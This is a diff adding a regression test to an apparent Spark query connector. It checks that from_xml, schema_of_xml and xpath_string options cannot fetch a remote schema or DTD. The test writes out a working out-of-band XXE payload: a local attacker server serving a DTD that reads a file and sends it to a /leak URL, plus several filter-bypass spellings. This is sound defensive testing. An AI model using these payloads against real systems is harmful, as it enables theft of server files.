@@ -5,6 +5,7 @@ status tracker), and a turn through the agent loop with the scripted model."""
 from __future__ import annotations
 
 import asyncio
+import contextlib
 import time
 from pathlib import Path
 
@@ -258,3 +259,85 @@ def test_the_session_catalog_read_says_what_describe_says(spark) -> None:
         entry = by_name[("shop", name)]
         assert entry.kind == "table"
         assert list(entry.columns) == _columns(spark, "shop", name), name
+
+
+class _Attacker:
+    """A server on 127.0.0.1 playing the attacker of an out-of-band XXE: it serves an XSD
+    whose external DTD sends a local file's contents back in a URL (found by a red team:
+    ``from_xml``'s ``rowValidationXSDPath`` passed the guard)."""
+
+    def __init__(self, target: Path) -> None:
+        import http.server
+        import threading
+
+        hits: list[str] = []
+        self.hits = hits
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                hits.append(self.path)
+                port = self.server.server_address[1]
+                if self.path.startswith("/evil.xsd"):
+                    body = (
+                        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % file SYSTEM '
+                        f'"file://{target}"><!ENTITY % dtd SYSTEM '
+                        f'"http://127.0.0.1:{port}/evil.dtd">%dtd;%send;]>'
+                        '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
+                        '<xs:element name="r"/></xs:schema>'
+                    )
+                elif self.path.startswith("/evil.dtd"):
+                    body = (
+                        '<!ENTITY % all "<!ENTITY &#x25; send SYSTEM '
+                        f"'http://127.0.0.1:{port}/leak?d=%file;'>\">%all;"
+                    )
+                else:
+                    body = "<x/>"
+                self.send_response(200)
+                self.end_headers()
+                self.wfile.write(body.encode())
+
+            def log_message(self, format: str, *args: object) -> None:
+                return None
+
+        self.server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_xml_functions_cannot_fetch_a_schema_or_a_dtd(lake, spark, tmp_path: Path) -> None:
+    """Through the raw session the XSD option fetches from the attacker and a local file's
+    contents reach it; through the connector every spelling is refused before Spark runs
+    anything, and the attacker hears nothing. Plain XML functions still run."""
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOPSECRET-FILE-CONTENT")
+    attacker = _Attacker(secret)
+    try:
+        xsd = f"http://127.0.0.1:{attacker.port}/evil.xsd"
+        payload = f"SELECT from_xml('<r>1</r>', 'r STRING', map('rowValidationXSDPath', '{xsd}'))"
+        with contextlib.suppress(Exception):  # Spark fails the row, after the fetches
+            spark.sql(payload).collect()
+        assert any("TOPSECRET-FILE-CONTENT" in hit for hit in attacker.hits)  # harmful
+        attacker.hits.clear()
+        for sql in (
+            payload,
+            payload.replace("rowValidationXSDPath", "ROWVALIDATIONXSDPATH"),
+            f"SELECT schema_of_xml('<r>1</r>', map('rowvalidationxsdpath', '{xsd}'))",
+            "SELECT from_xml('<r>1</r>', 'r STRING', "
+            f"map(concat('rowValidation', 'XSDPath'), '{xsd}'))",
+            f"SELECT xpath_string('<!DOCTYPE a SYSTEM \"{xsd}\"><a>1</a>', '/a')",
+        ):
+            with pytest.raises(UnsafeQueryError) as info:
+                lake.query(sql)
+            assert info.value.rule == "file_access"
+        assert attacker.hits == []
+    finally:
+        attacker.close()
+    plain = lake.query(
+        "SELECT from_xml('<r><a>1</a></r>', 'a INT', map('mode', 'PERMISSIVE')) AS v"
+    )
+    assert plain.df.iloc[0]["v"]["a"] == 1
+    assert lake.query("SELECT xpath_int('<a><b>2</b></a>', 'a/b') AS n").df.iloc[0]["n"] == 2
